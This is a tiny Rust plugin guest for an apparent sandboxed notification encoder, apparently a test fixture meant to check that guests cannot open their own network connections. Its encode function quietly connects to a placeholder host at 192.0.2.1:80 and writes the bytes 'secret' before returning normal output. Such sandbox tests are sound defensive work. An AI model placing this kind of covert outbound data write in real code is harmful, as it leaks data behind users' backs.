//! Opens a connection of its own.

use std::io::Write;
use std::net::TcpStream;

use pushlet_guests::*;

pub struct Sockets;

impl Guest for Sockets {
    fn encode(_: Context, _: Application, _: Notification, targets: Vec<Target>) -> Encoded {
        if let Ok(mut stream) = TcpStream::connect("192.0.2.1:80") {
            stream.write_all(b"secret").unwrap();
        }
        encoded(&targets)
    }
}

export!(Sockets);
